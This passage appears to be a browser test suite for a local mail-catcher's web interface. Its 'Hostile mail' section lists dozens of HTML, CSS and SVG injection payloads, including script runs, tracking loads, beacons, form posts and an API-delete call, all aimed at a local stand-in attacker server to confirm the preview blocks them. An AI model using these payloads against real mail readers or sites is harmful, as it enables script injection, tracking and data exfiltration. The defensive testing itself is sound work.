@@ -1,0 +1,849 @@
+"""The page in a real browser: mail that appears by itself, every view of it, and hostile mail that gets nowhere."""
+
+import json
+import re
+import smtplib
+import socket
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import ExitStack
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Frame, Locator, Page, Request, Route, expect
+
+from mailtrap.config import Config, HostPort
+from mailtrap.server import Server
+from tests.conftest import LOOPBACK, StartServer
+from tests.letters import PNG, attached, letter, picture
+from tests.support import Running, mail, wait_for
+
+expect.set_options(timeout=10_000)
+
+
+REFUSED = ("csp", "origin")
+"""Why Chromium did not send a request, when it was a policy of ours that forbade it."""
+
+
+@dataclass
+class Desk:
+    """A browser context with what it asked for and complained of."""
+
+    context: BrowserContext
+    requests: list[Request] = field(default_factory=list)
+    complaints: list[str] = field(default_factory=list)
+    dialogs: list[str] = field(default_factory=list)
+
+    def note(self, request: Request) -> None:
+        """Remember what was asked for."""
+        self.requests.append(request)
+
+    def open(self, url: str) -> Page:
+        """A tab, once it has loaded."""
+        page = self.context.new_page()
+        page.goto(url)
+        return page
+
+    def live(self, server: Running) -> Page:
+        """Our page, once it is connected."""
+        page = self.open(server.web)
+        expect(page.get_by_test_id("live-state")).to_have_attribute("data-state", "live")
+        return page
+
+    def foreign(self, server: Running) -> list[str]:
+        """What was asked of others than the server; a request that a policy refused was never sent."""
+        own = (f"{server.web}/", f"{server.web.replace('http', 'ws', 1)}/", "data:", "about:", "blob:")
+        sent = [request for request in self.requests if request.failure not in REFUSED]
+        return [f"{request.url} {request.failure}" for request in sent if not request.url.startswith(own)]
+
+
+OpenDesk = Callable[..., Desk]
+
+
+@pytest.fixture
+def desks(browser: Browser) -> Iterator[OpenDesk]:
+    """Opens browser contexts, as wide as is asked; all are closed at the end."""
+    with ExitStack() as stack:
+
+        def opened(width: int = 1440, height: int = 900) -> Desk:
+            context = browser.new_context(viewport={"width": width, "height": height}, service_workers="block")
+            context.set_default_timeout(10_000)
+            stack.callback(context.close)
+            desk = Desk(context)
+            context.on("request", desk.note)
+            context.on("console", lambda said: desk.complaints.append(f"{said.type}: {said.text}"))
+            context.on("weberror", lambda fault: desk.complaints.append(f"fault: {fault.error}"))
+
+            def dialog(said: Any) -> None:
+                desk.dialogs.append(said.message)
+                said.dismiss()
+
+            context.on("dialog", dialog)
+            return desk
+
+        yield opened
+
+
+@pytest.fixture
+def desk(desks: OpenDesk) -> Desk:
+    return desks()
+
+
+def rows(page: Page) -> Locator:
+    """The rows of the list."""
+    return page.get_by_test_id("row")
+
+
+def row(page: Page, id_: str) -> Locator:
+    """The row of one mail."""
+    return page.locator(f'[data-testid=row][data-id="{id_}"]')
+
+
+def open_mail(page: Page, id_: str, subject: str) -> None:
+    """Open a mail by its row and wait until it is shown."""
+    row(page, id_).click()
+    expect(page.get_by_test_id("mail-subject")).to_have_text(subject)
+
+
+def subjects(page: Page) -> list[str]:
+    """The subjects of the list, from the top."""
+    return page.get_by_test_id("row-subject").all_text_contents()
+
+
+def preview(page: Page) -> Frame:
+    """The frame in which the HTML of a mail is shown."""
+    handle = page.get_by_test_id("preview-frame").element_handle()
+    frame = handle and handle.content_frame()
+    assert frame
+    return frame
+
+
+def watch_navigation(page: Page) -> list[str]:
+    """Addresses that the page itself goes to from now on."""
+    gone: list[str] = []
+    page.on("framenavigated", lambda frame: gone.append(frame.url) if frame == page.main_frame else None)
+    page.evaluate("window.stillTheSame = true")
+    return gone
+
+
+# The empty page
+
+
+def test_empty_page_tells_how_to_send(server: Running, desk: Desk) -> None:
+    """A newcomer sees settings for the frameworks people use, with the real host and port."""
+    page = desk.live(server)
+    host, port = server.smtp
+    expect(page.get_by_test_id("empty")).to_be_visible()
+    text = page.locator("body").inner_text()
+    whole = page.locator("body").evaluate("body => body.textContent")
+    picks = page.locator("#setup-picks [role=tab]").all_inner_texts()
+    shown = {}
+    for name in picks:
+        page.locator("#setup-picks").get_by_role("tab", name=name, exact=True).click()
+        shown[name] = page.locator("#setup [role=tabpanel]:visible").inner_text()
+
+    assert str(port) in text
+    assert host in text
+    for framework in ("Django", "Flask", "Rails", "Laravel", "Node", "Spring", "Go", "PHP", "curl"):
+        matching = [name for name in shown if framework.lower() in name.lower()] or [
+            name for name in shown if framework.lower() in shown[name].lower()
+        ]
+        assert matching, f"{framework} is not among {picks}"
+        assert any(str(port) in shown[name] and host in shown[name] for name in matching), framework
+    assert "1025" not in whole or port == 1025
+    assert desk.foreign(server) == []
+
+
+# Mail that comes
+
+
+def test_a_mail_sent_is_a_mail_seen(server: Running, desk: Desk) -> None:
+    """With the page open a mail sent by smtplib appears without a reload, and opens with its body rendered."""
+    page = desk.live(server)
+    gone = watch_navigation(page)
+    with smtplib.SMTP(*server.smtp, timeout=30) as client:
+        client.sendmail("ada@example.test", ["bob@example.test"], letter(html="<h1>Rendered</h1>", subject="Look here"))
+    expect(rows(page)).to_have_count(1)
+    expect(page.get_by_test_id("row-subject")).to_have_text("Look here")
+    listed = server.messages()[0]["ID"]
+    before_opening = list(gone)
+    open_mail(page, listed, "Look here")
+    frame = page.frame_locator("[data-testid=preview-frame]")
+
+    expect(frame.locator("h1")).to_have_text("Rendered")
+    assert before_opening == []
+    assert page.evaluate("window.stillTheSame") is True
+    assert rows(page).get_attribute("data-id") == listed
+
+
+def test_mails_appear_newest_first(server: Running, desk: Desk) -> None:
+    """A burst of mails stands in the list in order, each once."""
+    server.send(mail("before"))
+    page = desk.live(server)
+    with smtplib.SMTP(*server.smtp, timeout=30) as client:
+        for number in range(30):
+            client.sendmail("ada@example.test", "bob@example.test", mail(f"number {number}"))
+    expect(rows(page)).to_have_count(31)
+
+    assert subjects(page) == [*(f"number {number}" for number in reversed(range(30))), "before"]
+
+
+def test_a_list_of_many_is_loaded_on_scroll(server: Running, desk: Desk) -> None:
+    """A long list comes in pieces, down to the first mail, without a gap."""
+    with smtplib.SMTP(*server.smtp, timeout=30) as client:
+        for number in range(130):
+            client.sendmail("ada@example.test", "bob@example.test", mail(f"number {number}"))
+    page = desk.live(server)
+
+    def all_there() -> bool:
+        rows(page).last.scroll_into_view_if_needed()
+        return rows(page).count() == 130
+
+    wait_for(all_there, what="the end of the list")
+
+    assert subjects(page) == [f"number {number}" for number in reversed(range(130))]
+
+
+def test_the_demo_button_brings_all_demo_mails(server: Running, desk: Desk) -> None:
+    """The button sends the demo mails through SMTP; they appear one by one."""
+    page = desk.live(server)
+    with page.expect_response("**/api/v1/demo") as answer:
+        page.get_by_test_id("demo").click()
+    sent = answer.value.json()["Sent"]
+    expect(rows(page)).to_have_count(sent, timeout=30_000)
+
+    assert sent >= 12
+    assert len(server.messages()) == sent
+    assert desk.foreign(server) == []
+
+
+# A mail and its views
+
+RICH = letter(
+    html='<!doctype html><p id="hello">Hello in <b>HTML</b></p><img id="logo" src="cid:logo@x">',
+    text="Hello in text",
+    subject="All views",
+    to="bob@example.test",
+    fields=("X-Coloured: =?utf-8?q?gr=C3=BCn?=", "Message-ID: <views@example.test>"),
+    pictures=[picture("logo@x")],
+    attachments=[
+        attached("plan.pdf", b"%PDF-1.4 a plan", "application/pdf"),
+        attached("größe.txt", b"text", "text/plain"),
+    ],
+)
+
+
+@pytest.fixture
+def rich(server: Running, desk: Desk) -> tuple[Running, Page]:
+    """The page with a mail open that has everything, sent also to one who is in no header."""
+    page = desk.live(server)
+    id_ = server.send(RICH, "bounce@example.test", ("bob@example.test", "hidden@example.test"))
+    open_mail(page, id_, "All views")
+    return server, page
+
+
+def show(page: Page, tab: str) -> Locator:
+    """Choose a view; its panel."""
+    page.get_by_test_id(f"tab-{tab}").click()
+    expect(page.get_by_test_id(f"tab-{tab}")).to_have_attribute("aria-selected", "true")
+    return page.get_by_test_id("panel")
+
+
+def test_preview_shows_html_and_pictures(rich: tuple[Running, Page]) -> None:
+    """The preview is the HTML in a sandboxed frame, with its own pictures loaded."""
+    _, page = rich
+    show(page, "preview")
+    frame = page.frame_locator("[data-testid=preview-frame]")
+    expect(frame.locator("#hello")).to_have_text("Hello in HTML")
+    wait_for(lambda: preview(page).evaluate("document.querySelector('#logo').naturalWidth") == 1, what="the picture")
+
+    assert (
+        page.get_by_test_id("preview-frame").get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
+    )
+    assert preview(page).evaluate("document.compatMode") == "CSS1Compat"
+    assert preview(page).evaluate("window.origin") == "null"
+
+
+@pytest.mark.parametrize(
+    ("tab", "shown", "absent"),
+    [
+        ("text", ["Hello in text"], ["<p id"]),
+        ("html", ['<p id="hello">Hello in <b>HTML</b></p>', "cid:logo@x"], ["Hello in text"]),
+        ("headers", ["Subject", "All views", "X-Coloured", "grün", "views@example.test"], ["hidden@example.test"]),
+        ("parts", ["multipart/mixed", "text/plain", "text/html", "image/png", "application/pdf", "plan.pdf"], []),
+        (
+            "envelope",
+            ["bounce@example.test", "bob@example.test", "hidden@example.test", "127.0.0.1:", "default"],
+            ["All views"],
+        ),
+        ("raw", ["From: Ada Lovelace <ada@example.test>", "X-Coloured: =?utf-8?q?gr=C3=BCn?="], []),
+    ],
+)
+def test_each_tab_shows_its_view(rich: tuple[Running, Page], tab: str, shown: list[str], absent: list[str]) -> None:
+    """Each tab shows what it is called after, and not its neighbour's."""
+    _, page = rich
+    panel = show(page, tab)
+    for text in shown:
+        expect(panel).to_contain_text(text)
+
+    visible = panel.inner_text()
+    assert [text for text in absent if text in visible] == []
+
+
+def test_envelope_marks_who_was_in_no_header(rich: tuple[Running, Page]) -> None:
+    """A recipient of the envelope that no header names is marked as such, and no other is."""
+    _, page = rich
+    panel = show(page, "envelope")
+    recipients = panel.locator(".rcpt")
+    hidden = recipients.filter(has_text="hidden@example.test")
+    named = recipients.filter(has_text="bob@example.test")
+
+    expect(hidden).to_contain_text(re.compile("envelope only|unseen|hidden|Bcc", re.IGNORECASE))
+    assert named.inner_text().strip() == "bob@example.test"
+
+
+def test_attachments_are_downloads(rich: tuple[Running, Page]) -> None:
+    """Attachments are listed by name and size, and come down byte-equal under their name."""
+    _, page = rich
+    box = page.get_by_test_id("attachments")
+    expect(box).to_contain_text("plan.pdf")
+    with page.expect_download() as download:
+        box.get_by_text("größe.txt").click()
+
+    assert download.value.suggested_filename == "größe.txt"
+    assert Path(download.value.path()).read_bytes() == b"text"
+
+
+def test_problems_are_told(server: Running, desk: Desk) -> None:
+    """A mail that could not be read whole says so, and nobody else does."""
+    page = desk.live(server)
+    good = server.send(mail("good"))
+    broken = server.send(b"Subject: broken\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\nno boundary\r\n")
+    open_mail(page, good, "good")
+    expect(page.get_by_test_id("problems")).to_be_hidden()
+    open_mail(page, broken, "broken")
+
+    expect(page.get_by_test_id("problems")).to_be_visible()
+    expect(page.get_by_test_id("problems")).to_contain_text("boundary")
+
+
+MARKUP = '<img src=x onerror="window.ran=1"><b>&amp;</b></title></script>"\'`${1}'
+
+
+def test_markup_in_fields_stays_text(server: Running, desk: Desk) -> None:
+    """HTML in subject, names, addresses, file names, headers and text is shown as it was written."""
+    page = desk.live(server)
+    server.send(
+        letter(
+            text=MARKUP,
+            subject=MARKUP,
+            sender='"<i>Ada</i><img src=x onerror=window.ran=1>" <ada@example.test>',
+            fields=(f"X-Markup: {MARKUP}", "Reply-To: <b@<script>.test>"),
+            attachments=[attached("<img src=x onerror=window.ran=1>.txt", b"x")],
+        )
+    )
+    expect(rows(page)).to_have_count(1)
+    seen = subjects(page)
+    rows(page).click()
+    expect(page.get_by_test_id("mail-subject")).to_have_text(MARKUP)
+    for tab in ("preview", "text", "html", "headers", "parts", "envelope", "raw"):
+        show(page, tab)
+    expect(show(page, "text")).to_contain_text(MARKUP)
+
+    assert seen == [MARKUP]
+    assert page.evaluate("window.ran") is None
+    assert page.locator("body img, body i, body b").count() == 0
+    assert desk.dialogs == []
+
+
+def test_our_own_page_gives_no_cause_for_complaint(server: Running, desk: Desk) -> None:
+    """From the empty page through every view to the last deletion: no console error and no breach of the policy."""
+    page = desk.live(server)
+    id_ = server.send(RICH)
+    open_mail(page, id_, "All views")
+    for tab in ("preview", "text", "html", "headers", "parts", "envelope", "raw", "preview"):
+        show(page, tab)
+    expect(page.frame_locator("[data-testid=preview-frame]").locator("#hello")).to_be_visible()
+    page.get_by_test_id("delete-one").click()
+    expect(rows(page)).to_have_count(0)
+
+    assert [said for said in desk.complaints if not said.startswith(("log:", "info:", "debug:"))] == []
+    assert desk.foreign(server) == []
+
+
+# Deleting, and other tabs
+
+
+def test_delete_one(server: Running, desk: Desk) -> None:
+    """The button of a mail deletes that mail from the list and the store, and no other."""
+    ids = [server.send(mail(f"number {number}")) for number in range(3)]
+    page = desk.live(server)
+    open_mail(page, ids[1], "number 1")
+    page.get_by_test_id("delete-one").click()
+    expect(rows(page)).to_have_count(2)
+    expect(row(page, ids[1])).to_have_count(0)
+    wait_for(lambda: len(server.messages()) == 2, what="the deletion")
+
+    assert [each["ID"] for each in server.messages()] == [ids[2], ids[0]]
+
+
+def test_a_deleted_mail_does_not_come_back(server: Running, desk: Desk) -> None:
+    """A piece of the list that was read before a deletion and arrives after it brings no deleted mail back."""
+    id_ = server.send(mail("gone"))
+    page = desk.context.new_page()
+    heard: list[str] = []
+    page.on("websocket", lambda ws: ws.on("framereceived", lambda data: heard.append(str(data))))
+    page.goto(server.web)
+    open_mail(page, id_, "gone")
+    piece = server.api("messages?start=0&limit=51").text
+    held: list[Route] = []
+    page.route("**/api/v1/messages?start=*", lambda route: held.insert(0, route))
+    page.get_by_test_id("delete-one").click()
+    wait_for(lambda: page.evaluate("1") and any('"delete"' in said for said in heard), what="the event")
+    for route in held:
+        route.fulfill(body=piece, content_type="application/json", headers={"Mailtrap-Seq": "2"})
+    page.unroute("**/api/v1/messages?start=*")
+    server.send(mail("next"))
+    expect(rows(page).first).to_contain_text("next")
+
+    assert subjects(page) == ["next"]
+
+
+def test_delete_all_asks_first(server: Running, desk: Desk) -> None:
+    """Delete all does nothing until it is confirmed; then the list is empty and tells how to send again."""
+    for number in range(3):
+        server.send(mail(f"number {number}"))
+    page = desk.live(server)
+    page.get_by_test_id("delete-all").click()
+    expect(page.get_by_test_id("confirm-delete")).to_be_visible()
+    page.keyboard.press("Escape")
+    expect(page.get_by_test_id("confirm-delete")).to_be_hidden()
+    kept = len(server.messages())
+    page.get_by_test_id("delete-all").click()
+    page.get_by_test_id("confirm-delete").click()
+    expect(rows(page)).to_have_count(0)
+    expect(page.get_by_test_id("empty")).to_be_visible()
+
+    assert kept == 3
+    assert server.messages() == []
+
+
+def test_a_second_tab_follows(server: Running, desk: Desk) -> None:
+    """What is read and deleted in one tab is so in the other, without a reload."""
+    ids = [server.send(mail(f"number {number}")) for number in range(3)]
+    one, two = desk.live(server), desk.live(server)
+    unread = re.compile(r"\bunread\b")
+    item = row(two, ids[0])
+    expect(item).to_have_class(unread)
+    open_mail(one, ids[0], "number 0")
+    expect(item).not_to_have_class(unread)
+    one.get_by_test_id("delete-one").click()
+    expect(row(two, ids[0])).to_have_count(0)
+    one.get_by_test_id("delete-all").click()
+    one.get_by_test_id("confirm-delete").click()
+    expect(rows(two)).to_have_count(0)
+
+    expect(two.get_by_test_id("empty")).to_be_visible()
+
+
+def test_changes_by_script_are_followed(server: Running, desk: Desk) -> None:
+    """What a script does by the API shows on the page."""
+    ids = [server.send(mail(f"number {number}")) for number in range(3)]
+    page = desk.live(server)
+    server.api("messages", "PUT", json={"IDs": [ids[0]], "Read": True})
+    expect(row(page, ids[0])).not_to_have_class(re.compile(r"\bunread\b"))
+    server.api("messages", "DELETE", json={"IDs": [ids[0]]})
+    expect(rows(page)).to_have_count(2)
+    server.api("messages", "DELETE")
+
+    expect(rows(page)).to_have_count(0)
+
+
+def test_a_lost_connection_heals(tmp_path: Path, desk: Desk) -> None:
+    """The server stops and starts again on port and file: the page connects by itself and shows what came, once."""
+    config = Config(smtp=(LOOPBACK,), web=LOOPBACK, db=tmp_path / "mail.db")
+    with Server(config) as house:
+        server = Running(house.smtp[0], house.web, house.db)
+        gone = server.send(mail("will go"))
+        server.send(mail("before"))
+        page = desk.live(server)
+        expect(rows(page)).to_have_count(2)
+        watch_navigation(page)
+    expect(page.get_by_test_id("live-state")).not_to_have_attribute("data-state", "live")
+    # Meanwhile it runs elsewhere, as far as the page can tell.
+    with Server(config) as house:
+        elsewhere = Running(house.smtp[0], house.web, house.db)
+        elsewhere.send(mail("meanwhile"))
+        elsewhere.api("messages", "DELETE", json={"IDs": [gone]})
+    port = int(server.web.rsplit(":", 1)[1])
+    with Server(Config(smtp=(LOOPBACK,), web=HostPort("127.0.0.1", port), db=config.db)) as house:
+        expect(page.get_by_test_id("live-state")).to_have_attribute("data-state", "live", timeout=30_000)
+        expect(rows(page)).to_have_count(2)
+        Running(house.smtp[0], house.web, house.db).send(mail("after"))
+        expect(rows(page)).to_have_count(3)
+        seen = subjects(page)
+        same = page.evaluate("window.stillTheSame")
+        page.close()
+
+    assert seen == ["after", "meanwhile", "before"]
+    assert same is True
+
+
+# Hostile mail
+
+
+class Trap:
+    """A web server of the attacker on this machine: it answers whatever is asked, and remembers that it was."""
+
+    def __init__(self) -> None:
+        self._listening = socket.create_server(("127.0.0.1", 0))
+        self.url = f"http://track.localhost:{self._listening.getsockname()[1]}"
+        self.hits: list[str] = []
+        self._thread = threading.Thread(target=self._serve, name="mailtrap-trap", daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                connection, _ = self._listening.accept()
+            except OSError:
+                return
+            with connection:
+                connection.settimeout(5)
+                try:
+                    asked = connection.recv(65_536)
+                    self.hits.append(asked.decode("latin-1"))
+                    head = "HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nConnection: close\r\n"
+                    connection.sendall(f"{head}Content-Length: {len(PNG)}\r\n\r\n".encode() + PNG)
+                except OSError:
+                    self.hits.append("a connection without a request")
+
+    def close(self) -> None:
+        """End it."""
+        self._listening.shutdown(socket.SHUT_RDWR)
+        self._listening.close()
+        self._thread.join()
+
+
+@pytest.fixture
+def trap() -> Iterator[Trap]:
+    made = Trap()
+    yield made
+    made.close()
+
+
+RUN = "fetch('{t}/js');window.ran=1;top.ran=1;console.log('RAN');alert('RAN')"
+VECTORS = {
+    "script": "<script>{run}</script>",
+    "script src": '<script src="{t}/a.js"></script><script type="module" src="{t}/b.js"></script>',
+    "onerror": '<img src="x:y" onerror="{run}">',
+    "remote image": '<img src="{t}/img.png"><img srcset="{t}/set.png 1x"><img src="//{h}/relative.png">',
+    "lazy image": '<img loading="lazy" src="{t}/lazy.png">',
+    "picture": '<picture><source srcset="{t}/source.png"><img src="{t}/fallback.png"></picture>',
+    "image input": '<input type="image" src="{t}/input.png">',
+    "background": '<table background="{t}/table.png"><tr><td background="{t}/td.png">x</table>',
+    "style url": '<div style="background:url({t}/style.png);list-style:url({t}/list.png)">x</div>',
+    "style import": "<style>@import url('{t}/import.css'); @import '{t}/import2.css';</style>",
+    "style image-set": '<div style="background:image-set(url({t}/set1.png) 1x)">x</div>',
+    "font": "<style>@font-face{{font-family:f;src:url({t}/font.woff)}}*{{font-family:f}}</style>",
+    "cursor": '<div style="cursor:url({t}/cursor.png),auto;border-image:url({t}/border.png)">x</div>',
+    "svg filter": '<p style="filter:url({t}/f.svg#f);mask:url({t}/mask.svg);clip-path:url({t}/c.svg#c)">x</p>',
+    "content": "<style>p::before{{content:url({t}/content.png)}}</style><p>x</p>",
+    "css variable": '<div style="--u:url({t}/var.png);background:var(--u)">x</div>',
+    "stylesheet": '<link rel="stylesheet" href="{t}/link.css">',
+    "prefetch": '<link rel="prefetch" href="{t}/prefetch"><link rel="prerender" href="{t}/prerender">',
+    "preload": '<link rel="preload" as="image" href="{t}/preload.png"><link rel="modulepreload" href="{t}/m.js">',
+    "preconnect": '<link rel="preconnect" href="{t}/"><link rel="dns-prefetch" href="//{h}/">',
+    "icon": '<link rel="icon" href="{t}/icon.png"><link rel="apple-touch-icon" href="{t}/touch.png">',
+    "manifest": '<link rel="manifest" href="{t}/manifest.json">',
+    "refresh": '<meta http-equiv="refresh" content="0;url={t}/refresh">',
+    "refresh js": '<meta http-equiv="refresh" content="0;url=javascript:{run}">',
+    "csp report": '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; report-uri {t}/report">',
+    "cookie": '<meta http-equiv="Set-Cookie" content="a=b">',
+    "base": '<base href="{t}/base/"><img src="relative-to-base.png">',
+    "nested iframe": '<iframe srcdoc="&lt;iframe src={t}/in>&lt;/iframe>&lt;link rel=preconnect href={t}>">',
+    "svg iframe": '<svg><foreignObject><iframe/src="{t}/f"></iframe></foreignObject></svg><IFRAME\nsrc={t}/i></IFRAME>',
+    "iframe": '<iframe src="{t}/iframe"></iframe><iframe srcdoc="<script>{run}</script>"></iframe>',
+    "iframe js": '<iframe src="javascript:{run}"></iframe><iframe src="data:text/html,<script>{run}</script>">',
+    "frameset": '<frame src="{t}/frame">',
+    "object": '<object data="{t}/object.swf"></object><object type="text/html" data="{t}/object.html"></object>',
+    "embed": '<embed src="{t}/embed.swf"><applet code="x" codebase="{t}/applet"></applet>',
+    "video": '<video src="{t}/video.mp4" poster="{t}/poster.png" autoplay muted></video>',
+    "audio": '<audio autoplay src="{t}/audio.mp3"></audio><video><source src="{t}/s.mp4"><track src="{t}/t.vtt">',
+    "svg onload": '<svg onload="{run}"><image href="{t}/svg.png"/><use href="{t}/use.svg#a"/></svg>',
+    "svg script": '<svg><script>{run}</script><foreignObject><img src="{t}/foreign.png"></foreignObject></svg>',
+    "svg animate": '<svg><a><animate attributeName="href" values="javascript:{run}"/></a><set onbegin="{run}"/></svg>',
+    "svg feimage": '<svg><filter id="f"><feImage href="{t}/feimage.png"/></filter><rect filter="url(#f)"/></svg>',
+    "math": '<math href="javascript:{run}"><mtext><img src=x:y onerror="{run}"></mtext></math>',
+    "autofocus": '<input autofocus onfocus="{run}"><select autofocus onfocus="{run}"></select>',
+    "details": '<details open ontoggle="{run}">x</details><marquee onstart="{run}">x</marquee>',
+    "body": '<body onload="{run}" background="{t}/body.png" onpageshow="{run}">',
+    "form": '<form id="f" action="{t}/form" method="post"><input name="a"></form><script>f.submit()</script>',
+    "button": '<form action="{t}/button"><button id="press" formaction="{t}/formaction">x</button></form>',
+    "javascript link": '<a id="js-link" href="javascript:{run}">x</a>',
+    "ping": '<a id="ping" href="#" ping="{t}/ping">x</a>',
+    "portal": '<portal src="{t}/portal"></portal><fencedframe src="{t}/fenced"></fencedframe>',
+    "noscript": '<noscript><img src="{t}/noscript.png"></noscript>',
+    "template": '<template shadowrootmode="open"><img src="{t}/shadow.png"></template>',
+    "mutation": '<svg></p><style><a title="</style><img src=x:y onerror={run}>">',
+    "comment": '<!--><img src="{t}/comment.png" onerror="{run}">-->',
+    "conditional": '<!--[if mso]><img src="{t}/mso.png"><![endif]-->',
+    "xml stylesheet": '<?xml-stylesheet href="{t}/x"?><link rel=stylesheet href="data:text/css,@import url({t}/d)">',
+    "speculation": '<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{t}/spec"]}}]}}</script>',
+    "worker": "<script>new Worker('{t}/w.js');navigator.sendBeacon('{t}/b');new Image().src='{t}/new.png'</script>",
+    "socket": "<script>new WebSocket('ws://{h}/ws');new EventSource('{t}/es')</script>",
+    "own api": "<script>fetch('/api/v1/messages',{{method:'DELETE'}})</script><img src='/api/v1/message/latest'>",
+    "target": '<a id="top" target="_top" href="{t}/top">x</a>',
+    "no such part": '<img src="cid:nobody@x"><img src="/view/latest/guess/1">',
+}  # fmt: skip
+"""Ways out of a mail, each of which fetches or runs something where nothing holds it."""
+
+
+def vectors(trap: Trap) -> dict[str, str]:
+    """The vectors with the attacker's address in them."""
+    host = trap.url.removeprefix("http://")
+    run = RUN.format(t=trap.url)
+    return {name: text.format(t=trap.url, h=host, run=run) for name, text in VECTORS.items()}
+
+
+def hostile_mails(trap: Trap) -> list[bytes]:
+    """The vectors, ten in a mail; those that would hide what follows come in mails of their own."""
+    alone = {"noscript", "mutation", "comment", "refresh", "refresh js", "base", "csp report", "body", "frameset"}
+    ways = vectors(trap)
+    common = [text for name, text in ways.items() if name not in alone]
+    pages = ["".join(common[at : at + 10]) for at in range(0, len(common), 10)]
+    pages += [ways[name] for name in ways if name in alone]
+    end = "<p id='end'>the end</p>"
+    return [
+        letter(html=f"{end}<div>{page}</div>", subject=f"hostile {at}", pictures=[picture("logo@x")])
+        for at, page in enumerate(pages)
+    ]
+
+
+def test_there_are_enough_vectors(trap: Trap) -> None:
+    """The list of vectors is long, and every one would reach the attacker or run something."""
+    assert len(VECTORS) >= 50
+    assert [name for name, text in vectors(trap).items() if "{" in text and "{t}" in text] == []
+
+
+def test_the_trap_catches(trap: Trap, desk: Desk) -> None:
+    """What is asked of the attacker's server is seen there and in the browser's requests: the trap is set."""
+    page = desk.context.new_page()
+    page.set_content(f'<img id="i" src="{trap.url}/seen.png"><link rel="preconnect" href="{trap.url}">')
+    wait_for(lambda: trap.hits, what="the request")
+
+    assert any("/seen.png" in hit for hit in trap.hits)
+    assert f"{trap.url}/seen.png" in [request.url for request in desk.requests]
+
+
+def settle(page: Page) -> None:
+    """Wait until the page has loaded and half a second long asked for nothing."""
+    page.wait_for_load_state("load")
+    page.wait_for_load_state("networkidle")
+
+
+def test_hostile_mail_does_nothing_in_the_preview(server: Running, desk: Desk, trap: Trap) -> None:
+    """Mails with every vector, opened in the page one by one: nothing runs, and nothing is asked of anybody else."""
+    ids = [server.send(raw) for raw in hostile_mails(trap)]
+    page = desk.live(server)
+    watch_navigation(page)
+    for at, id_ in enumerate(ids):
+        open_mail(page, id_, f"hostile {at}")
+        frame = page.frame_locator("[data-testid=preview-frame]")
+        expect(frame.locator("body")).to_contain_text("the end")
+        preview(page).wait_for_load_state("load")
+        for link in ("js-link", "ping", "top", "press"):
+            if (found := frame.locator(f"#{link}")).count():
+                found.dispatch_event("click")
+    last = server.send(letter(html="<p>harmless</p>", subject="harmless"))
+    open_mail(page, last, "harmless")
+    expect(page.frame_locator("[data-testid=preview-frame]").locator("p")).to_be_visible()
+    preview(page).wait_for_load_state("load")
+
+    assert trap.hits == []
+    assert desk.foreign(server) == []
+    assert desk.dialogs == []
+    assert [said for said in desk.complaints if "RAN" in said and said.startswith("log")] == []
+    assert page.evaluate("[window.ran, window.stillTheSame]") == [None, True]
+    assert len(server.messages()) == len(ids) + 1
+    own = [request.url for request in desk.requests if request.failure not in REFUSED]
+    assert not [url for url in own if "/api/v1/message/latest" in url or "/guess/" in url]
+
+
+def test_hostile_mail_does_nothing_in_a_tab_of_its_own(server: Running, desk: Desk, trap: Trap) -> None:
+    """The same mails, their address opened as a tab of its own: the prison is in the answer, not in our frame."""
+    ids = [server.send(raw) for raw in hostile_mails(trap)]
+    for id_ in ids:
+        page = desk.open(f"{server.web}/view/{id_}.html")
+        expect(page.locator("body")).to_contain_text("the end")
+        for link in ("js-link", "press"):
+            if (found := page.locator(f"#{link}")).count():
+                found.dispatch_event("click")
+        settle(page)
+        ran, url, origin = page.evaluate("[window.ran, location.href, window.origin]")
+        page.close()
+
+        assert ran is None
+        assert url == f"{server.web}/view/{id_}.html"
+        assert origin == "null"
+
+    assert trap.hits == []
+    assert desk.foreign(server) == []
+    assert desk.dialogs == []
+    assert len(server.messages()) == len(ids)
+
+
+@pytest.mark.parametrize("query", ["", "?remote=1"])
+def test_a_frameset_opens_nothing(server: Running, desk: Desk, trap: Trap, query: str) -> None:
+    """A mail that is nothing but frames connects to none of their hosts."""
+    frames = f'<frameset><frame src="{trap.url}/one"><frame src="{trap.url}/two"></frameset>'
+    id_ = server.send(letter(html=frames))
+    page = desk.open(f"{server.web}/view/{id_}.html{query}")
+    expect(page.locator("frame")).to_have_count(2)
+    settle(page)
+
+    assert trap.hits == []
+    assert desk.foreign(server) == []
+
+
+def test_links_of_a_mail_open_beside_it(server: Running, desk: Desk) -> None:
+    """A link opens a tab of its own that cannot reach ours and is told nothing of where it came from."""
+    page = desk.live(server)
+    asked: list[dict[str, str]] = []
+
+    def answer(route: Route) -> None:
+        asked.append(route.request.headers)
+        route.fulfill(body="<p>elsewhere", content_type="text/html")
+
+    desk.context.route("http://shop.test/**", answer)
+    id_ = server.send(letter(html='<a href="http://shop.test/offer">offer</a>', subject="offer"))
+    open_mail(page, id_, "offer")
+    with desk.context.expect_page() as opened:
+        page.frame_locator("[data-testid=preview-frame]").locator("a").click()
+    opened.value.wait_for_load_state("load")
+
+    assert opened.value.url == "http://shop.test/offer"
+    assert opened.value.evaluate("window.opener") is None
+    assert "referer" not in asked[0]
+    assert page.url.startswith(server.web)
+
+
+def test_remote_pictures_come_when_asked_for(server: Running, desk: Desk) -> None:
+    """The reader's button lets the pictures of this one mail be fetched, without a referrer; scripts still are not."""
+    page = desk.live(server)
+    asked: list[tuple[str, dict[str, str]]] = []
+
+    def answer(route: Route) -> None:
+        asked.append((route.request.url, route.request.headers))
+        route.fulfill(body=PNG, content_type="image/png")
+
+    desk.context.route("http://pictures.test/**", answer)
+    html = '<img id="far" src="http://pictures.test/far.png"><script src="http://pictures.test/far.js"></script>'
+    first, second = (server.send(letter(html=html, subject=subject)) for subject in ("first", "second"))
+    open_mail(page, first, "first")
+    far = page.frame_locator("[data-testid=preview-frame]").locator("#far")
+    expect(far).to_be_attached()
+    preview(page).wait_for_load_state("load")
+    before = list(asked)
+    page.get_by_test_id("remote").click()
+    expect(far).to_have_js_property("naturalWidth", 1)
+    preview(page).wait_for_load_state("load")
+    after = list(asked)
+    open_mail(page, second, "second")
+    expect(far).to_have_js_property("naturalWidth", 0)
+    preview(page).wait_for_load_state("load")
+
